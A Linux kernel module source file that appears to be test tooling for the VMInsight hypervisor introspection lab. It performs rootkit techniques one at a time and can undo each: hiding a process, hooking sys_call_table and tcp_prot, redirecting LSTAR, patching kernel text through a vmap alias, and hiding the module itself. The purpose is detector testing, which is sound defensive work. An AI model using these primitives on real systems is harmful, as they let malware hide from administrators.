// SPDX-License-Identifier: GPL-2.0
/*
 * vmi_tamper: TEST TOOLING ONLY, loaded inside the lab guest. It performs, one at a time and
 * undoably, what a kernel rootkit does, so the lab can check that VMInsight sees each step
 * from the hypervisor. Never installed by `make install`.
 *
 * Control: write one command to /proc/vmi_tamper; read it for the state.
 *   hide_pid PID     unlink the task from the task list    unhide_pid
 *   hide_pid_deep PID  unlink it from the task list and from its parent's children list
 *                    (only the PID hash and the vCPUs still show it)   unhide_pid
 *   hook_syscall NR  replace sys_call_table[NR]             unhook_syscall
 *   hook_fptr        replace tcp_prot.getsockopt (writable data) with a wrapper here that
 *                    calls the original                     unhook_fptr
 *   lstar            point LSTAR at a stub in this module   unlstar
 *   lstar_bad        a WRMSR of a non-canonical LSTAR, which must fault (#GP) and change
 *                    nothing (nothing to undo)
 *   poke SYMBOL      flip one byte of SYMBOL's kernel text  unpoke
 *   hide_module      unlink this module from `modules`     unhide_module
 *
 * Unexported symbols come from kallsyms_lookup_name, whose address a kprobe reveals (it is
 * not exported since 5.7). Read-only kernel memory is written through a vmap() alias of its
 * page, as text_poke does.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/delay.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/proc_fs.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/seq_file.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>
#include <asm/cpufeature.h>
#include <asm/ibt.h>
#include <asm/msr.h>
#include <asm/nospec-branch.h>
#include <net/tcp.h>

typedef unsigned long (*lookup_fn)(const char *name);
typedef long (*syscall_fn)(const struct pt_regs *regs);

static lookup_fn lookup;
static DEFINE_MUTEX(vt_lock);

/* hide_pid, hide_pid_deep */
static struct task_struct *hidden_task;
static bool hidden_deep;
static rwlock_t *vt_tasklist_lock;

/* hook_syscall */
static syscall_fn *vt_sys_call_table;
static syscall_fn vt_orig_syscall;
static int hooked_nr = -1;
static atomic64_t hook_calls;

/* hook_fptr: tcp_prot is exported and in .data, as a rootkit finds it */
typedef int (*getsockopt_fn)(struct sock *sk, int level, int optname, char __user *optval,
			     int __user *optlen);
static getsockopt_fn vt_orig_getsockopt;
static bool fptr_hooked;
static atomic64_t fptr_calls;
static atomic_t fptr_running;

/* lstar: the stub jumps to the saved entry point, so the guest keeps working */
u64 vt_orig_lstar;
static bool lstar_set;
asm(".pushsection .text\n"
	".globl vt_lstar_stub\n"
	".type vt_lstar_stub, @function\n"
	"vt_lstar_stub:\n"
	ASM_ENDBR
	ANNOTATE_RETPOLINE_SAFE "\n"
	"	jmp *vt_orig_lstar(%rip)\n"
	"	int3\n"
	".size vt_lstar_stub, .-vt_lstar_stub\n"
	".popsection\n");

/* poke */
static u8 *poked_at;
static u8 poked_orig;

/* hide_module */
static struct list_head *vt_modules;
static bool module_hidden;

/* kallsyms_lookup_name through a kprobe's resolved address */
static int find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int err = register_kprobe(&kp);

	if (err)
		return err;
	lookup = (lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	return lookup ? 0 : -ENOENT;
}

/* Writes len bytes to read-only kernel memory through a writable alias of its page. */
static int write_ro(void *dst, const void *src, size_t len)
{
	unsigned long addr = (unsigned long)dst;
	struct page *page;
	void *map;

	/* Only the kernel image (text, rodata) is written here. */
	if ((addr & ~PAGE_MASK) + len > PAGE_SIZE || addr < __START_KERNEL_map)
		return -EINVAL;
	page = pfn_to_page(__pa_symbol(addr) >> PAGE_SHIFT);
	map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!map)
		return -ENOMEM;
	memcpy(map + (addr & ~PAGE_MASK), src, len);
	vunmap(map);
	return 0;
}

static int hide_pid(pid_t nr, bool deep)
{
	struct task_struct *t;

	if (hidden_task)
		return -EBUSY;
	t = get_pid_task(find_vpid(nr), PIDTYPE_PID);
	if (!t)
		return -ESRCH;
	write_lock_irq(vt_tasklist_lock);
	list_del_rcu(&t->tasks);
	/* The process tree: its real parent's children list (tasklist_lock guards it). */
	if (deep)
		list_del_init(&t->sibling);
	write_unlock_irq(vt_tasklist_lock);
	/* Readers may still stand on the node: let them leave before it points at itself. */
	synchronize_rcu();
	INIT_LIST_HEAD(&t->tasks);
	hidden_task = t;
	hidden_deep = deep;
	pr_info("hid pid %d (%s)%s\n", nr, t->comm, deep ? " from the tree too" : "");
	return 0;
}

static int unhide_pid(void)
{
	if (!hidden_task)
		return -ENOENT;
	write_lock_irq(vt_tasklist_lock);
	list_add_tail_rcu(&hidden_task->tasks, &init_task.tasks);
	if (hidden_deep)
		list_add_tail(&hidden_task->sibling, &hidden_task->real_parent->children);
	write_unlock_irq(vt_tasklist_lock);
	put_task_struct(hidden_task);
	hidden_task = NULL;
	hidden_deep = false;
	return 0;
}

static long vt_hook(const struct pt_regs *regs)
{
	atomic64_inc(&hook_calls);
	return vt_orig_syscall(regs);
}

static int hook_syscall(int nr)
{
	syscall_fn hook = vt_hook;
	int err;

	if (hooked_nr >= 0)
		return -EBUSY;
	if (nr < 0 || nr >= NR_syscalls)
		return -EINVAL;
	vt_orig_syscall = READ_ONCE(vt_sys_call_table[nr]);
	err = write_ro(&vt_sys_call_table[nr], &hook, sizeof(hook));
	if (err)
		return err;
	hooked_nr = nr;
	pr_info("sys_call_table[%d] %ps -> %ps\n", nr, vt_orig_syscall, hook);
	return 0;
}

static int unhook_syscall(void)
{
	int err;

	if (hooked_nr < 0)
		return -ENOENT;
	err = write_ro(&vt_sys_call_table[hooked_nr], &vt_orig_syscall, sizeof(vt_orig_syscall));
	if (!err)
		hooked_nr = -1;
	return err;
}

static int vt_getsockopt(struct sock *sk, int level, int optname, char __user *optval,
			 int __user *optlen)
{
	int ret;

	atomic_inc(&fptr_running);
	atomic64_inc(&fptr_calls);
	ret = vt_orig_getsockopt(sk, level, optname, optval, optlen);
	atomic_dec(&fptr_running);
	return ret;
}

static int hook_fptr(bool on)
{
	if (on == fptr_hooked)
		return on ? -EBUSY : -ENOENT;
	if (on) {
		vt_orig_getsockopt = READ_ONCE(tcp_prot.getsockopt);
		WRITE_ONCE(tcp_prot.getsockopt, vt_getsockopt);
		pr_info("tcp_prot.getsockopt %ps -> %ps\n", vt_orig_getsockopt, vt_getsockopt);
	} else {
		WRITE_ONCE(tcp_prot.getsockopt, vt_orig_getsockopt);
		/* Callers already in the wrapper finish before the module may go. */
		synchronize_rcu();
		while (atomic_read(&fptr_running))
			msleep(20);
	}
	fptr_hooked = on;
	return 0;
}

static void set_lstar(void *value)
{
	wrmsrl(MSR_LSTAR, *(u64 *)value);
}

static int lstar(bool on)
{
	u64 v;

	if (on == lstar_set)
		return on ? -EBUSY : -ENOENT;
	/* With KPTI the entry runs on the user page tables, where this module is not mapped. */
	if (boot_cpu_has(X86_FEATURE_PTI))
		return -EOPNOTSUPP;
	if (on) {
		rdmsrl(MSR_LSTAR, vt_orig_lstar);
		asm("leaq vt_lstar_stub(%%rip), %0" : "=r"(v));
	} else {
		v = vt_orig_lstar;
	}
	on_each_cpu(set_lstar, &v, 1);
	lstar_set = on;
	pr_info("LSTAR %llx\n", v);
	return 0;
}

static int poke(const char *sym)
{
	u8 *at;
	u8 v;
	int err;

	if (poked_at)
		return -EBUSY;
	at = (u8 *)lookup(sym);
	if (!at || (unsigned long)at < lookup("_stext") || (unsigned long)at >= lookup("_etext"))
		return -ENOENT;
	at += 0x10; /* past the entry (endbr, fentry nop): a byte no patching touches */
	poked_orig = *at;
	v = poked_orig ^ 0xff;
	err = write_ro(at, &v, 1);
	if (err)
		return err;
	poked_at = at;
	pr_info("poked %s+0x10 at %lx\n", sym, (unsigned long)at);
	return 0;
}

static int unpoke(void)
{
	int err;

	if (!poked_at)
		return -ENOENT;
	err = write_ro(poked_at, &poked_orig, 1);
	if (!err)
		poked_at = NULL;
	return err;
}

static int hide_module(bool hide)
{
	if (hide == module_hidden)
		return hide ? -EBUSY : -ENOENT;
	if (hide) {
		list_del_rcu(&THIS_MODULE->list);
		synchronize_rcu();
	} else {
		list_add_rcu(&THIS_MODULE->list, vt_modules);
	}
	module_hidden = hide;
	return 0;
}

static int lstar_bad(void)
{
	u64 before, after;
	int err;

	preempt_disable();
	rdmsrl(MSR_LSTAR, before);
	err = wrmsrl_safe(MSR_LSTAR, 0x8000000000000000ULL);
	rdmsrl(MSR_LSTAR, after);
	if (!err)
		wrmsrl(MSR_LSTAR, before);	/* it took: put the entry back */
	preempt_enable();
	pr_info("non-canonical LSTAR: %s\n", err ? "#GP" : "taken");
	return err && after == before ? 0 : -EIO;
}

static int run(char *cmd)
{
	char *arg = strim(cmd);
	char *verb = strsep(&arg, " ");
	int n;

	if (!strcmp(verb, "hide_pid"))
		return arg && !kstrtoint(arg, 10, &n) ? hide_pid(n, false) : -EINVAL;
	if (!strcmp(verb, "hide_pid_deep"))
		return arg && !kstrtoint(arg, 10, &n) ? hide_pid(n, true) : -EINVAL;
	if (!strcmp(verb, "unhide_pid"))
		return unhide_pid();
	if (!strcmp(verb, "hook_syscall"))
		return arg && !kstrtoint(arg, 10, &n) ? hook_syscall(n) : -EINVAL;
	if (!strcmp(verb, "unhook_syscall"))
		return unhook_syscall();
	if (!strcmp(verb, "hook_fptr"))
		return hook_fptr(true);
	if (!strcmp(verb, "unhook_fptr"))
		return hook_fptr(false);
	if (!strcmp(verb, "lstar"))
		return lstar(true);
	if (!strcmp(verb, "unlstar"))
		return lstar(false);
	if (!strcmp(verb, "lstar_bad"))
		return lstar_bad();
	if (!strcmp(verb, "poke"))
		return arg ? poke(strim(arg)) : -EINVAL;
	if (!strcmp(verb, "unpoke"))
		return unpoke();
	if (!strcmp(verb, "hide_module"))
		return hide_module(true);
	if (!strcmp(verb, "unhide_module"))
		return hide_module(false);
	return -EINVAL;
}

static ssize_t vt_write(struct file *f, const char __user *buf, size_t len, loff_t *off)
{
	char cmd[96];
	int err;

	if (len >= sizeof(cmd))
		return -EINVAL;
	if (copy_from_user(cmd, buf, len))
		return -EFAULT;
	cmd[len] = '\0';
	mutex_lock(&vt_lock);
	err = run(cmd);
	mutex_unlock(&vt_lock);
	return err ? err : len;
}

static int vt_show(struct seq_file *m, void *v)
{
	mutex_lock(&vt_lock);
	seq_printf(m, "hidden_pid %d deep %d\n", hidden_task ? task_pid_nr(hidden_task) : -1,
		   hidden_deep);
	seq_printf(m, "hooked_syscall %d calls %lld\n", hooked_nr, atomic64_read(&hook_calls));
	seq_printf(m, "hooked_fptr %d calls %lld\n", fptr_hooked,
		   atomic64_read(&fptr_calls));
	seq_printf(m, "lstar %d orig %llx\n", lstar_set, vt_orig_lstar);
	seq_printf(m, "poked %lx\n", (unsigned long)poked_at);
	seq_printf(m, "module_hidden %d\n", module_hidden);
	seq_printf(m, "pti %d\n", boot_cpu_has(X86_FEATURE_PTI));
	mutex_unlock(&vt_lock);
	return 0;
}

static int vt_open(struct inode *inode, struct file *f)
{
	return single_open(f, vt_show, NULL);
}

static const struct proc_ops vt_ops = {
	.proc_open = vt_open,
	.proc_read = seq_read,
	.proc_lseek = seq_lseek,
	.proc_release = single_release,
	.proc_write = vt_write,
};

static int __init vt_init(void)
{
	int err = find_lookup();

	if (err) {
		pr_err("no kallsyms_lookup_name: %d\n", err);
		return err;
	}
	vt_tasklist_lock = (rwlock_t *)lookup("tasklist_lock");
	vt_sys_call_table = (syscall_fn *)lookup("sys_call_table");
	vt_modules = (struct list_head *)lookup("modules");
	if (!vt_tasklist_lock || !vt_sys_call_table || !vt_modules)
		return -ENOENT;
	if (!proc_create("vmi_tamper", 0600, NULL, &vt_ops))
		return -ENOMEM;
	pr_info("loaded: sys_call_table %lx\n", (unsigned long)vt_sys_call_table);
	return 0;
}

static void __exit vt_exit(void)
{
	remove_proc_entry("vmi_tamper", NULL);
	mutex_lock(&vt_lock);
	if (hidden_task)
		unhide_pid();
	if (hooked_nr >= 0)
		unhook_syscall();
	if (fptr_hooked)
		hook_fptr(false);
	if (lstar_set)
		lstar(false);
	if (poked_at)
		unpoke();
	mutex_unlock(&vt_lock);
	/* A hooked syscall may still be running vt_hook. */
	synchronize_rcu();
}

module_init(vt_init);
module_exit(vt_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("VMInsight lab test tool: rootkit-like kernel tampering, undoable");
